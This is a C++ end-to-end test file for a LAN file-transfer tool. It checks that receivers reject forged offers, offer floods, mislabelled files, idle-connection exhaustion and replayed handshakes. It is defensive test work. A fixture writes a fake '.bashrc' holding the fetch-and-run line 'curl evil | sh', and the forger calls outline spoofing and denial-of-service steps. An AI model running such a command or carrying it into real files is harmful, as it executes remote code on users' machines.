// File transfers against someone on the segment with a key of his own
// pinned under made-up names: offers that aim the receiver elsewhere, a
// flood of offers, a sender that lies about its names, a port held by idle
// connections, and a handshake recorded and played back.
#include "Segment.h"

#include <gtest/gtest.h>

#include <unistd.h>

#include <chrono>
#include <fstream>

using namespace lanyx::e2e;
namespace fs = std::filesystem;

namespace {

class HostileFiles : public SegmentTest {
protected:
    void SetUp() override {
        SegmentTest::SetUp();
        inbox_ = root_ / "inbox";
        src_ = root_ / "src";
        fs::create_directories(inbox_);
        fs::create_directories(src_);
    }
    // The address of host i on the simulated segment.
    std::string host(int i) const { return "10.77." + std::to_string(getpid() % 200) + "." + std::to_string(i + 1); }
    Process& copy(int h, const std::string& name, std::vector<std::string> args) {
        return cli(h, name, std::move(args));
    }
    // A copy under the usual limit of 1,024 open files.
    Process& limitedCopy(int h, const std::string& name, std::vector<std::string> args) {
        fs::create_directories(root_ / name);
        std::vector<std::string> argv{
            "prlimit", "--nofile=1024:1024", LANYX_CLI, "--dir", (root_ / name).string(), "--name",
            name,      "--probe-ms",         "1500"};
        for (auto& o : segment_->broadcastOptions()) argv.push_back(o);
        argv.insert(argv.end(), args.begin(), args.end());
        return run(h, name, argv);
    }
    Process& forger(int h, std::vector<std::string> args) {
        std::vector<std::string> argv{LANYX_FORGER, "--key", (root_ / "forger.key").string()};
        for (auto& o : segment_->broadcastOptions()) argv.push_back(o);
        argv.insert(argv.end(), args.begin(), args.end());
        return run(h, "forger" + std::to_string(forgeries_++), argv);
    }
    void forge(int h, std::vector<std::string> args) {
        auto& p = forger(h, std::move(args));
        ASSERT_EQ(p.wait(20000), 0) << err("forger" + std::to_string(forgeries_ - 1));
    }
    // bob's box key, from his announcement as anybody on the segment hears it.
    std::string boxKeyOf(const std::string& name) {
        // "K/<version>;" and then capabilities, signing key, box key, ...
        const std::string mark = "rx " + name + "|K/";
        if (!waitForText(out("rex"), mark, 15000)) return {};
        const auto text = readFile(out("rex"));
        auto at = text.find(';', text.find(mark)) + 1;
        const auto line = text.substr(at, text.find('\n', at) - at);
        std::vector<std::string> fields;
        for (std::size_t start = 0;;) {
            const auto semi = line.find(';', start);
            fields.push_back(line.substr(start, semi == std::string::npos ? semi : semi - start));
            if (semi == std::string::npos) break;
            start = semi + 1;
        }
        return fields.size() >= 3 ? fields[2] : std::string();
    }
    Process& capture(int h) {
        std::vector<std::string> argv{LANYX_RAWPEER, "peer", "rex"};
        for (auto& o : segment_->broadcastOptions()) argv.push_back(o);
        return run(h, "rex", argv);
    }
    // `name` listed, then pinned at bob's with the forger's key, and heard
    // signed from host h.
    void madeUp(int h, const std::string& name) {
        forge(h, {"signed", name + "|S/0"});
        forge(h, {"announce", name});
        forge(h, {"signed", name + "|S/1"});
    }
    static std::string offer(const std::string& id, int port, const std::string& name, const std::string& from) {
        std::string text = "lanyx-files offer v1;id=" + id + ";port=" + std::to_string(port) +
                           ";files=1;bytes=5;names=" + name;
        if (!from.empty()) text += ";from=" + from + ";tops=1";
        return text;
    }
    static std::string id(int n) {
        std::string s = std::to_string(n);
        return std::string(32 - s.size(), 'a') + s;
    }
    bool slowLink(int h) {
        auto& tc = run(h, "tc",
                       {"tc", "qdisc", "add", "dev", "eth0", "root", "tbf", "rate", "40mbit", "burst", "32kb",
                        "latency", "100ms"});
        return tc.wait(5000) == 0;
    }
    fs::path inbox_, src_;
    int forgeries_ = 0;
};

#define REQUIRE_NAMESPACES()                                                                           \
    do {                                                                                               \
        if (!segment_->namespaces()) GTEST_SKIP() << "no network namespaces: addresses cannot differ"; \
    } while (0)

long long msSince(std::chrono::steady_clock::time_point t) {
    return std::chrono::duration_cast<std::chrono::milliseconds>(std::chrono::steady_clock::now() - t).count();
}

}  // namespace

// The offer's datagram once decided where the receiver connected: mallory,
// heard signed from host 2, sends offers from host 0 (the third address);
// bob connects to none of them, nor to a system port, nor follows an offer
// of the earlier format. An offer naming host 2 itself is followed.
TEST_F(HostileFiles, AForgedOfferIsNotConnectedToWhereverItsDatagramComesFrom) {
    REQUIRE_NAMESPACES();
    capture(2);
    copy(1, "bob", {"listen", "--accept-into", inbox_.string(), "--accept-from", "mallory"});
    const auto box = boxKeyOf("bob");
    ASSERT_FALSE(box.empty()) << readFile(out("rex")) << readFile(out("bob")) << err("bob");
    // mallory's key is at host 2: it answers bob's challenge there.
    auto& answering = forger(2, {"answer", "40000", "mallory"});
    ASSERT_TRUE(waitForText(out("forger" + std::to_string(forgeries_ - 1)), "answering", 5000));
    madeUp(2, "mallory");
    ASSERT_TRUE(waitForText(out("bob"), "join\tmallory\t", 10000)) << readFile(out("bob"));
    auto& third = forger(0, {"tcp-listen", "5000", "30000"});
    auto& own = forger(2, {"tcp-listen", "5001", "30000"});
    const auto thirdOut = out("forger" + std::to_string(forgeries_ - 2));
    const auto ownOut = out("forger" + std::to_string(forgeries_ - 1));
    ASSERT_TRUE(waitForText(thirdOut, "listening", 5000));
    ASSERT_TRUE(waitForText(ownOut, "listening", 5000));

    forge(0, {"--to-box", box, "sealed", "mallory", "bob", offer(id(1), 5000, "a.txt", host(0))});
    forge(0, {"--to-box", box, "sealed", "mallory", "bob", offer(id(2), 5000, "b.txt", host(0) + "," + host(2))});
    forge(0, {"--to-box", box, "sealed", "mallory", "bob", offer(id(3), 5000, "c.txt", "")});
    forge(0, {"--to-box", box, "sealed", "mallory", "bob", offer(id(4), 22, "d.txt", host(2))});
    ASSERT_TRUE(waitForText(out("bob"), "file-offer\tmallory\t1 file, 5 bytes: b.txt", 10000))
        << readFile(out("bob")) << readFile((root_ / "bob" / "Log.txt").string());
    ASSERT_TRUE(waitForText(out("bob"), "transfer-failed\tmallory\trefused: the offer names a port", 10000))
        << readFile(out("bob"));
    EXPECT_TRUE(
        waitForText(out("bob"),
                    "transfer-failed\tmallory\trefused: the offer names an address the sender was not heard from",
                    10000))
        << readFile(out("bob"));
    EXPECT_TRUE(waitForText(out("bob"), "transfer-failed\tmallory\trefused: the sender's program is too old", 10000))
        << readFile(out("bob"));
    EXPECT_EQ(readFile(thirdOut).find("connection from"), std::string::npos) << readFile(thirdOut);

    // Where mallory's signed datagrams came from, on an unprivileged port:
    // that is where bob connects (and finds no transfer there).
    forge(0, {"--to-box", box, "sealed", "mallory", "bob", offer(id(5), 5001, "e.txt", host(2))});
    EXPECT_TRUE(waitForText(ownOut, "connection from " + host(1), 10000)) << readFile(ownOut) << readFile(out("bob"));
    // bob takes the offers in order: any connection the earlier ones made
    // came before this one.
    third.signal(SIGTERM);
    own.signal(SIGTERM);
    third.wait(5000);
    own.wait(5000);
    answering.signal(SIGTERM);
    answering.wait(5000);
    EXPECT_EQ(readFile(thirdOut).find("connection from"), std::string::npos) << readFile(thirdOut);
}

// 32 made-up names once filled the offers waiting for an answer for an
// hour. Each offers as many as it may; ann's real offer still arrives.
TEST_F(HostileFiles, MadeUpSendersDoNotKeepARealOfferOut) {
    REQUIRE_NAMESPACES();
    capture(2);
    copy(1, "bob", {"listen"});
    const auto box = boxKeyOf("bob");
    ASSERT_FALSE(box.empty()) << readFile(out("rex")) << readFile(out("bob")) << err("bob");
    std::vector<std::string> names, announce{"announce"}, signedAll{"signed"};
    for (int n = 0; n < 32; ++n) {
        names.push_back("junk" + std::to_string(n));
        announce.push_back(names.back());
        signedAll.push_back(names.back() + "|S/0");
    }
    std::vector<std::string> answer{"answer", "30000"};
    answer.insert(answer.end(), names.begin(), names.end());
    auto& answering = forger(2, answer);
    ASSERT_TRUE(waitForText(out("forger" + std::to_string(forgeries_ - 1)), "answering", 5000));
    forge(2, signedAll);
    forge(2, announce);
    for (std::size_t i = 1; i < signedAll.size(); ++i) signedAll[i].back() = '1';
    forge(2, signedAll);
    ASSERT_TRUE(waitForText(out("bob"), "join\tjunk31\t", 10000)) << readFile(out("bob"));
    int n = 0;
    for (int round = 0; round < 5; ++round)
        for (const auto& name : names)
            forge(2, {"--to-box", box, "sealed", name, "bob", offer(id(++n), 5000, "junk.txt", host(2))});
    ASSERT_TRUE(waitForText(out("bob"), "file-offer\tjunk31\t", 10000)) << readFile(out("bob"));

    writeFile(src_ / "real.txt", "hello");
    auto& ann = copy(0, "ann", {"send", "--to", "bob", "--offer-wait-ms", "20000", (src_ / "real.txt").string()});
    EXPECT_TRUE(waitForText(out("bob"), "file-offer\tann\t1 file, 5 bytes: real.txt\n", 20000))
        << readFile(out("bob")) << err("ann");
    // The list was full: ann's offer took the place of a made-up one.
    EXPECT_NE(readFile((root_ / "bob" / "Log.txt").string()).find("dropped for a newer one from ann"),
              std::string::npos);
    ann.signal(SIGTERM);
    ann.wait(10000);
    answering.signal(SIGTERM);
    answering.wait(5000);
}

// "report.pdf" offered, ".bashrc" delivered: refused, and said so.
TEST_F(HostileFiles, ADeliveredNameOtherThanTheOfferedOneIsRefused) {
    REQUIRE_NAMESPACES();
    writeFile(src_ / ".bashrc", "curl evil | sh\n");
    copy(1, "bob", {"listen", "--accept-into", inbox_.string(), "--accept-from", "ann"});
    ASSERT_TRUE(waitForText(out("bob"), "join\tbob\t", 15000)) << readFile(out("bob"));
    auto& ann = copy(0, "ann", {"send", "--to", "bob", "--test-offer-name", "report.pdf", (src_ / ".bashrc").string()});
    EXPECT_NE(ann.wait(60000), 0) << readFile(out("ann"));
    ASSERT_TRUE(waitForText(out("bob"),
                            "transfer-failed\tann\trefused: the sender's list holds names other than those "
                            "offered (.bashrc)",
                            10000))
        << readFile(out("bob"));
    EXPECT_NE(readFile(out("bob")).find("file-offer\tann\t1 file, 15 bytes: report.pdf\n"), std::string::npos);
    EXPECT_TRUE(fs::is_empty(inbox_));
}

// 2,000 idle connections once took the sender's descriptors (it spun, and a
// transfer took four times as long). Held while a transfer runs, they are
// refused or cut; the receiver's reconnection halfway gets in, the
// transfer completes, and the chat goes on meanwhile.
TEST_F(HostileFiles, TwoThousandIdleConnectionsLeaveChatAndATransferWorking) {
    REQUIRE_NAMESPACES();
    const std::string big = pattern(40u << 20, 5);
    writeFile(src_ / "big.bin", big);
    copy(1, "bob",
         {"listen", "--accept-into", inbox_.string(), "--accept-from", "ann", "--accept-from", "ann2",
          "--test-drop-after", std::to_string(30u << 20)});
    ASSERT_TRUE(waitForText(out("bob"), "join\tbob\t", 15000)) << readFile(out("bob"));
    ASSERT_TRUE(slowLink(0)) << err("tc");

    const auto t0 = std::chrono::steady_clock::now();
    auto& ann = limitedCopy(0, "ann2", {"send", "--to", "bob", (src_ / "big.bin").string()});
    ASSERT_TRUE(waitForText(out("ann2"), "transfer-started\tbob\t", 30000)) << readFile(out("ann2")) << err("ann2");
    auto& hold = forger(2, {"hold-tcp", host(0), "1415", "2000", "90000"});
    const auto holdOut = out("forger" + std::to_string(forgeries_ - 1));
    ASSERT_TRUE(waitForText(holdOut, "made 2000", 10000)) << readFile(holdOut) << err("forger0");
    // The chat meanwhile: a line to the sender's copy arrives.
    auto& carl = copy(2, "carl", {"alert", "--to", "ann2", "still here"});
    EXPECT_EQ(carl.wait(30000), 0) << readFile(out("carl")) << err("carl");
    ASSERT_EQ(ann.wait(60000), 0) << readFile(out("ann2")) << err("ann2");
    const auto heldMs = msSince(t0);
    EXPECT_NE(readFile(out("ann2")).find("file-sent\tbob\tbig.bin\n"), std::string::npos) << readFile(out("ann2"));
    // Its descriptors were never all taken: it saved its settings at the end.
    EXPECT_EQ(err("ann2").find("could not be saved"), std::string::npos) << err("ann2");
    EXPECT_NE(readFile(out("carl")).find("delivery\tann2\t"), std::string::npos) << readFile(out("carl"));
    hold.signal(SIGTERM);
    hold.wait(10000);
    ASSERT_TRUE(waitForText(out("bob"), "file-received\tann2\t", 10000)) << readFile(out("bob"));
    const auto bobOut = readFile(out("bob"));
    const auto at = bobOut.find("file-received\tann2\t") + std::string("file-received\tann2\t").size();
    EXPECT_TRUE(readFile(bobOut.substr(at, bobOut.find('\n', at) - at)) == big) << bobOut;
    std::printf("[ figures ] 40 MiB over 40 Mbit/s with 2,000 idle connections held: %lld ms\n",
                static_cast<long long>(heldMs));
}

// A handshake recorded on the way and played back while the transfer runs
// once marked it interrupted (and armed a ten-minute end).
TEST_F(HostileFiles, AReplayedHandshakeDoesNotInterruptARunningTransfer) {
    REQUIRE_NAMESPACES();
    writeFile(src_ / "movie.bin", pattern(40u << 20, 9));
    copy(1, "bob", {"listen", "--accept-into", inbox_.string(), "--accept-from", "ann"});
    ASSERT_TRUE(waitForText(out("bob"), "join\tbob\t", 15000)) << readFile(out("bob"));
    ASSERT_TRUE(slowLink(0)) << err("tc");
    auto& replay = forger(1, {"replay-tcp", "eth0", "1415"});
    const auto replayOut = out("forger" + std::to_string(forgeries_ - 1));
    ASSERT_TRUE(waitForText(replayOut, "recording", 5000)) << err("forger0");
    auto& ann = copy(0, "ann", {"send", "--to", "bob", (src_ / "movie.bin").string()});
    ASSERT_TRUE(waitForText(replayOut, "replayed ", 30000)) << readFile(replayOut) << err("forger0");
    ASSERT_EQ(ann.wait(120000), 0) << readFile(out("ann")) << err("ann");
    replay.wait(10000);
    const auto annOut = readFile(out("ann"));
    EXPECT_EQ(annOut.find("transfer-interrupted"), std::string::npos) << annOut;
    // The played-back connection got as far as the receiver's proof.
    EXPECT_NE(readFile((root_ / "ann" / "Log.txt").string()).find("failed its handshake: the other side's key is not"),
              std::string::npos)
        << readFile((root_ / "ann" / "Log.txt").string());
    EXPECT_NE(annOut.find("file-sent\tbob\tmovie.bin\n"), std::string::npos) << annOut;
    EXPECT_TRUE(readFile((inbox_ / "movie.bin").string()) == pattern(40u << 20, 9));
}
